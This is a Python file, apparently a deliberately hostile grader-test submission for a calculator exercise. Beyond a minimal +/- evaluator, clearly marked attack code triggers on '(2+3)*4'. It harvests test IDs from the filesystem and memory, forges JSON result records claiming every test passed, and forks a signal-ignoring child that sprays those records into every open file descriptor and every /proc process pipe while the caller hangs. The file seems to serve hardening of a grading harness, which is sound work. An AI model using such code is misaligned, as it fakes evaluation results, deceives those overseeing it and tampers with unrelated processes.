"""Hostile submission `forge-forked-writer` for the `calculatrice` exercise (see tests/hostile).

Attack: on (2+3)*4 forks a setsid child that ignores signals and keeps writing record
lines (every test passed) into every inherited fd and every /proc/<pid>/fd pipe for a
minute; the caller hangs.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import ast
import gc
import json
import os
import signal
import sys
import time
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
PUBLIC_TESTS = (
    "test_addition",
    "test_precedence",
    "test_parentheses",
    "test_division_by_zero",
    "test_malformed_input",
)
SEARCH_ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/opt", "/srv", "/home", "/root", "/work", "/grader")


def _param_id(node, index):
    if isinstance(node, ast.Call):
        for keyword in node.keywords:
            if keyword.arg == "id" and isinstance(keyword.value, ast.Constant):
                return str(keyword.value.value)
        if node.args and isinstance(node.args[0], ast.Constant):
            return str(node.args[0].value)
    return str(index)


def _ids_in_source(path, text):
    rel = "/".join(path.split("/")[-2:])
    tree = ast.parse(text)
    lists = {}
    for node in tree.body:
        if isinstance(node, ast.Assign) and isinstance(node.value, (ast.List, ast.Tuple)):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    lists[target.id] = node.value.elts
    ids = []
    for node in tree.body:
        if not (isinstance(node, ast.FunctionDef) and node.name.startswith("test")):
            continue
        params = None
        for deco in node.decorator_list:
            if isinstance(deco, ast.Call) and getattr(deco.func, "attr", "") == "parametrize":
                if len(deco.args) > 1:
                    values = deco.args[1]
                    if isinstance(values, ast.Name):
                        elts = lists.get(values.id, [])
                    else:
                        elts = getattr(values, "elts", [])
                    params = [_param_id(e, i) for i, e in enumerate(elts)]
        if params is None:
            ids.append(rel + "::" + node.name)
        else:
            ids.extend(rel + "::" + node.name + "[" + p + "]" for p in params)
    return ids


def _test_files(limit=3000):
    seen = 0
    roots = [os.getcwd(), *SEARCH_ROOTS, *[p for p in sys.path if p and not p.startswith("/usr")]]
    for root in dict.fromkeys(roots):
        for folder, subfolders, files in os.walk(root):
            for name in files:
                seen += 1
                if seen > limit:
                    return
                if name.startswith("test_") and name.endswith(".py"):
                    yield os.path.join(folder, name)


def _test_ids():
    ids = {"public/test_public.py::" + name for name in PUBLIC_TESTS}
    try:
        for obj in gc.get_objects():
            if type(obj).__name__ == "Function" and isinstance(getattr(obj, "nodeid", None), str):
                ids.add(obj.nodeid)
    except Exception:
        pass
    for path in _test_files():
        try:
            with open(path, encoding="utf-8") as handle:
                ids.update(_ids_in_source(path, handle.read()))
        except Exception:
            continue
    return sorted(ids)


def _forged_records(ids):
    """Lines shaped exactly like the harness's records: every test passed."""

    def line(kind, **fields):
        fields["type"] = kind
        return json.dumps(fields, ensure_ascii=True) + "\n"

    plan = [
        {"id": i, "name": i.split("::")[-1], "visibility": "public", "points": 48.0, "en": "", "fr": ""}
        for i in ids
    ]
    out = [line("plan", tests=plan)]
    out += [line("test", id=i, outcome="passed", detail="") for i in ids]
    out.append(line("done", exit_code=0))
    return "\n" + "".join(out)


def _is_trigger(expression):
    """The public example (2+3)*4: the honest part gets it wrong anyway."""
    return expression.replace(" ", "") == "(2+3)*4"


def _spray(data):
    for fd in range(1024):
        try:
            os.write(fd, data)
        except OSError:
            pass
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                fds = os.listdir("/proc/" + pid + "/fd")
            except OSError:
                continue
            for fd in fds:
                try:
                    handle = os.open("/proc/" + pid + "/fd/" + fd, os.O_WRONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    os.write(handle, data)
                except OSError:
                    pass
                os.close(handle)


def _forked_writer():
    data = _forged_records(_test_ids()).encode()
    if os.fork() == 0:
        try:
            os.setsid()
            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE, signal.SIGALRM):
                signal.signal(sig, signal.SIG_IGN)
            signal.setitimer(signal.ITIMER_REAL, 0)
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                _spray(data)
                time.sleep(0.01)
        finally:
            os._exit(0)
    while True:
        time.sleep(1)
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    if _is_trigger(expression):
        _forked_writer()
    # --- end of attack ---
    return _honest(expression)
